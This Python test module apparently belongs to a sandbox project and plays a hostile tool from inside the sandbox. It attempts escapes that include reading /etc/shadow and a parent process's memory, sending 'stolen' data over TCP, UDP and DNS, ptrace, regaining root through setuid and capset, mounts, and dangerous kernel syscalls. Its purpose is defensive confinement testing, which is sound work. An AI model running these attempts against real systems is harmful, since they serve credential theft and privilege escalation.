"""What a hostile tool tries. Sent into the sandbox as source: standard library only, nothing of Gemworks.

No attack does harm where it succeeds: a test must be able to fail without breaking the machine it runs on, as root.
What would be written to is opened only, what would be covered, unlinked or renamed is bait, counts end at a bound.

Each function of QUICK gets `target` (what the parent has put out to be found) and returns what it got away with: an
empty list where everything was refused.
"""

import contextlib
import ctypes
import errno
import os
import signal
import socket
import sys
import time

_LIBC = ctypes.CDLL(None, use_errno=True)
_IS_ARM = os.uname().machine == "aarch64"


def _tries(*attempts):
    """Run each attempt (name, function); the names of those that no error stopped, with what they returned."""
    got = []
    for name, attempt in attempts:
        with contextlib.suppress(OSError, RuntimeError, ValueError, ImportError, AttributeError, MemoryError):
            got.append(f"{name}: {attempt()!r}")
    return got


def _syscall(number, *arguments):
    sized = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = _LIBC.syscall(ctypes.c_long(number), *sized)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _read(path):
    with open(path, "rb") as file:
        return file.read(100)


def read_outside(target):
    paths = [target["secret"], "/etc/shadow", "/etc/passwd", "/root/.bashrc", os.path.dirname(target["secret"])]
    return _tries(*[(p, lambda p=p: os.listdir(p) if p == paths[-1] else _read(p)) for p in paths])


def read_by_symlink(target):
    def follow(to):
        link = f"link{time.monotonic_ns()}"
        os.symlink(to, link)
        return _read(link)

    up = "../" * 20 + target["secret"].lstrip("/")
    return _tries(("absolute", lambda: follow(target["secret"])), ("relative", lambda: _read(up)))


def read_by_proc(target):
    ids = ("self", "1", str(target["pid"]), "thread-self")
    paths = [f"/proc/{pid}/{name}" for pid in ids for name in ("environ", "mem", "maps", "cmdline")]
    paths += [f"/proc/{pid}/{name}{target['secret']}" for pid in ids for name in ("root", "cwd")]
    return _tries(*[(p, lambda p=p: _read(p)) for p in paths if "self/m" not in p])


def open_descriptors(target):
    """Only stdin, stdout, stderr and the result's pipe are there, and none is a file of the parent."""
    got = []
    for fd in range(1024):
        with contextlib.suppress(OSError):
            found = os.fstat(fd)
            if fd > 3 or (found.st_dev, found.st_ino) == tuple(target["secret_id"]):
                got.append(f"descriptor {fd}")
    return got


def hard_link(target):
    def link():
        os.link(target["secret"], "linked")
        return _read("linked")

    return _tries(("link", link))


def write_outside(target):
    """Files of others are opened for writing, not written; new files are empty and taken away again."""

    def create(path):
        os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        os.unlink(path)

    folder, word = os.path.dirname(target["secret"]), target["word"]
    known = [target["secret"], "/usr/bin/env", os.__file__]
    new = [f"{place}/gemworks-{word}" for place in (folder, "/", "/usr", "/etc", "/var/tmp")]
    return _tries(
        *[(path, lambda path=path: os.close(os.open(path, os.O_WRONLY))) for path in known],
        *[(path, lambda path=path: create(path)) for path in new],
        ("truncate", lambda: os.truncate(target["owned"], 0)),
        ("rename", lambda: os.rename(target["owned"], target["owned"])),
        ("mkdir", lambda: os.mkdir(f"{folder}/{word}") or os.rmdir(f"{folder}/{word}")),
    )


def change_attributes(target):
    return _tries(
        ("chmod", lambda: os.chmod(target["owned"], 0o777)),
        ("chown", lambda: os.chown(target["owned"], os.getuid(), os.getgid())),
        ("utime", lambda: os.utime(target["owned"])),
        ("xattr", lambda: os.setxattr(target["owned"], "user.x", b"1")),
    )


def tcp(target):
    def listen():
        with socket.create_server(("127.0.0.1", 0)) as server:
            return server.getsockname()

    return _tries(
        ("loopback", lambda: socket.create_connection(("127.0.0.1", target["tcp"]), 1).recv(10)),
        ("IPv6", lambda: socket.create_connection(("::1", target["tcp"]), 1)),
        ("outside", lambda: socket.create_connection(("192.0.2.1", 80), 0.2)),
        *([] if target["own_network"] else [("listen", listen)]),
    )


def udp(target):
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            return sender.sendto(b"stolen", ("127.0.0.1", target["udp"]))

    return _tries(("loopback", send))


def dns(target):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6stolen\7example\0\0\1\0\1", ("192.0.2.1", 53))

    return _tries(("resolver", lambda: socket.getaddrinfo("stolen.example.com", 80)), ("packet", ask))


def unix_socket(target):
    def connect(kind):
        with socket.socket(socket.AF_UNIX, kind) as sender:
            sender.connect(target["unix"])
            return "connected"  # the other side may hang up before anything is sent

    return _tries(("stream", lambda: connect(socket.SOCK_STREAM)), ("datagram", lambda: connect(socket.SOCK_DGRAM)))


def abstract_socket(target):
    def connect():
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
            return sender.sendto(b"stolen", "\0" + target["abstract"])

    def pair():
        one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        with one, other:
            return one.sendto(b"stolen", "\0" + target["abstract"])

    return _tries(("socket", connect), ("pair", pair))


def odd_sockets(target):
    kinds = [
        ("netlink", 16, 3),
        ("packet", 17, 3),
        ("raw", 2, 3),
        ("bluetooth", 31, 3),
        ("vsock", 40, 1),
        ("alg", 38, 5),
    ]
    return _tries(*[(name, lambda f=family, k=kind: socket.socket(f, k).close()) for name, family, kind in kinds])


def signals_to_parent(target):
    return _tries(
        ("exists", lambda: os.kill(target["pid"], 0)),
        ("SIGURG", lambda: os.kill(target["pid"], signal.SIGURG)),
        ("its group", lambda: os.killpg(target["group"], 0)),
        ("pidfd", lambda: os.pidfd_open(target["pid"])),
        ("queue", lambda: _syscall(138 if _IS_ARM else 129, target["pid"], int(signal.SIGURG), None)),
    )


def trace_parent(target):
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(target["address"], 8)
    pid = target["pid"]
    return _tries(
        # Not PTRACE_ATTACH, which would leave the parent stopped. What is seized is let go when this process ends.
        ("seize", lambda: _syscall(117 if _IS_ARM else 101, 0x4206, pid, 0, 0)),
        ("read its memory", lambda: _syscall(270 if _IS_ARM else 310, pid, local, 1, remote, 1, 0)),
        ("its descriptors", lambda: _syscall(438, pid, 3, 0)),
    )


def become_root(target):
    got = _tries(
        ("setuid", lambda: os.setuid(0)),
        ("setresuid", lambda: os.setresuid(0, 0, 0)),
        ("setgid", lambda: os.setgid(0)),
        ("setgroups", lambda: os.setgroups([0])),
        ("capset", lambda: _capabilities_back()),
    )
    if os.getuid() == 0 or 0 in os.getgroups():
        got.append("is root")
    if target["own_prctl"] and _LIBC.prctl(39, 0, 0, 0, 0) != 1:
        got.append("set-uid programs count")
    return got


def _capabilities_back():
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    every = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    if _LIBC.capset(header, every) < 0:
        raise OSError(ctypes.get_errno(), "capset")
    return "all"


def mounting(target):
    """Only the bait's folder is ever mounted on, and freed again; namespaces are those of this process alone."""
    place = os.path.dirname(target["secret"]).encode()

    def mount(kind, flags=0):
        if _LIBC.mount(b"none", place, kind, flags, None) < 0:
            _fail()
        _LIBC.umount2(place, 2)

    def unshare(flags):
        if _LIBC.unshare(flags) < 0:
            _fail()

    def node():
        os.mknod("node", 0o60600, os.makedev(254, 0))
        os.unlink("node")

    return _tries(
        ("tmpfs", lambda: mount(b"tmpfs")),
        ("proc", lambda: mount(b"proc")),
        ("bind", lambda: _LIBC.mount(b"/usr", place, None, 4096, None) == 0 or _fail()),
        ("mknod", node),
        ("new mount API", lambda: _syscall(430, ctypes.c_char_p(b"tmpfs"), 0)),
        ("new user namespace", lambda: unshare(0x10000000)),
        ("new mount namespace", lambda: unshare(0x00020000)),
        ("chroot", lambda: os.chroot("/usr")),
    )


def _fail():
    raise OSError(errno.EPERM, "refused")


def environment(target):
    own = {"LC_CTYPE": "C.UTF-8", "PWD": "/"}  # Python's own, and bwrap's
    got = [f"{name}={value}" for name, value in os.environ.items() if own.get(name) != value]
    words = [word for word in sys.argv if target["word"] in word]
    return got + words


def poisoned_imports(target):
    import json
    import string

    got = [m.__file__ for m in (json, string) if m.__file__.startswith(target["poison"])]
    got += [path for path in sys.path if path in ("", ".") or path.startswith(target["poison"])]
    try:
        import poison_module  # noqa: F401

        got.append("poison_module")
    except ImportError:
        pass
    return got


def standard_input(target):
    return [f"stdin: {text!r}"] if (text := sys.stdin.read(100)) else []


def clocks(target):
    return _tries(
        ("clock_settime", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time())),
        # LEAD: an invalid time (a negative number of microseconds): EINVAL where it would be allowed, EPERM where not
        ("adjtimex", lambda: _syscall(171 if _IS_ARM else 159, ctypes.byref((ctypes.c_long * 64)(1)))),
    )


def _reached(attempt):
    """Whether the kernel looked at the arguments: it had no right to refuse by."""
    try:
        attempt()
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS, errno.EACCES):
            raise
    return "reached"


def kernel_features(target):
    """Parts of the kernel that tools have no use for and exploits have had."""
    numbers = {
        "bpf": (321, 280),
        "perf_event_open": (298, 241),
        "keyctl": (250, 219),
        "add_key": (248, 217),
        "userfaultfd": (323, 282),
        "io_uring_setup": (425, 425),
        "memfd_create": (319, 279),
        "personality": (135, 92),
        "open_by_handle_at": (304, 265),
        "syslog": (103, 116),
        "quotactl": (179, 60),
        "fanotify_init": (300, 262),
        "landlock_create_ruleset": (444, 444),
        "memfd_secret": (447, 447),
        "seccomp": (317, 277),
        "lsm_list_modules": (461, 461),
    }
    argument = ctypes.create_string_buffer(256)
    attempts = [(n, lambda k=k: _syscall(k[_IS_ARM], ctypes.byref(argument), 0, 0, 0, 0)) for n, k in numbers.items()]
    got = []
    for name, attempt in attempts:
        try:
            got.append(f"{name}: {attempt()}")
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS):  # the kernel has looked at the arguments
                got.append(f"{name}: reached, {error}")
    return got


def other_architectures(target):
    if os.uname().machine != "x86_64":
        return []
    return _tries(("x32 getpid", lambda: _syscall(0x40000000 | 39)))


def shared_memory(target):

    def segment():
        number = _syscall(194 if _IS_ARM else 29, 0, 4096, 0o1600)  # IPC_PRIVATE
        return _LIBC.shmctl(number, 0, None)

    def semaphore():
        number = _syscall(190 if _IS_ARM else 64, 0, 1, 0o1600)
        return _LIBC.semctl(number, 0, 0)

    def file():
        path = f"/dev/shm/gemworks-{target['word']}"
        open(path, "w").close()
        os.unlink(path)

    return _tries(("shmget", segment), ("semget", semaphore), ("/dev/shm", file))


def devices(target):
    names = ("mem", "kmsg", "tty", "console", "ptmx", "fuse", "kvm", "vda", "sda", "loop-control", "net/tun")
    flags = os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK
    return _tries(*[(name, lambda n=name: os.close(os.open(f"/dev/{n}", flags))) for name in names])


def kernel_settings(target):
    paths = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/power/state", "/proc/self/oom_score_adj")
    return _tries(*[(path, lambda p=path: os.close(os.open(p, os.O_WRONLY))) for path in paths])


def terminal(target):
    import fcntl

    return _tries(
        *[(f"TIOCGPGRP {fd}", lambda f=fd: fcntl.ioctl(f, 0x540F, b"1234")) for fd in range(4)],
        ("a terminal", lambda: os.ttyname(1)),
        ("the controlling terminal", lambda: os.close(os.open("/dev/tty", os.O_RDWR))),
    )


def own_limits(target):
    import resource

    got = []
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CORE"):
        which = getattr(resource, name)
        _, most = resource.getrlimit(which)
        if most == resource.RLIM_INFINITY:
            got.append(f"{name} is not limited")
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(which, (most, most + 1))
            got.append(f"{name} was raised")
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(target["pid"], resource.RLIMIT_NOFILE)
        got.append("limits of the parent")
    return got


def programs(target):
    def fork():
        if (pid := os.fork()) == 0:
            os._exit(0)
        return pid

    return _tries(
        ("fork", fork),
        ("exec", lambda: os.execv("/bin/true", ["true"])),
        ("spawn", lambda: os.posix_spawn("/bin/true", ["true"], {})),
    )


QUICK = (
    *(read_outside, read_by_symlink, read_by_proc, open_descriptors, hard_link, write_outside, change_attributes),
    *(tcp, udp, dns, unix_socket, abstract_socket, odd_sockets, signals_to_parent, trace_parent, become_root, mounting),
    *(environment, poisoned_imports, standard_input, clocks, kernel_features, other_architectures, shared_memory),
    *(devices, kernel_settings, terminal, own_limits, programs),
)


def all_quick(target, names=()):
    """Name -> what it got away with, of every quick attack."""
    return {attack.__name__: attack(target) for attack in QUICK if not names or attack.__name__ in names}
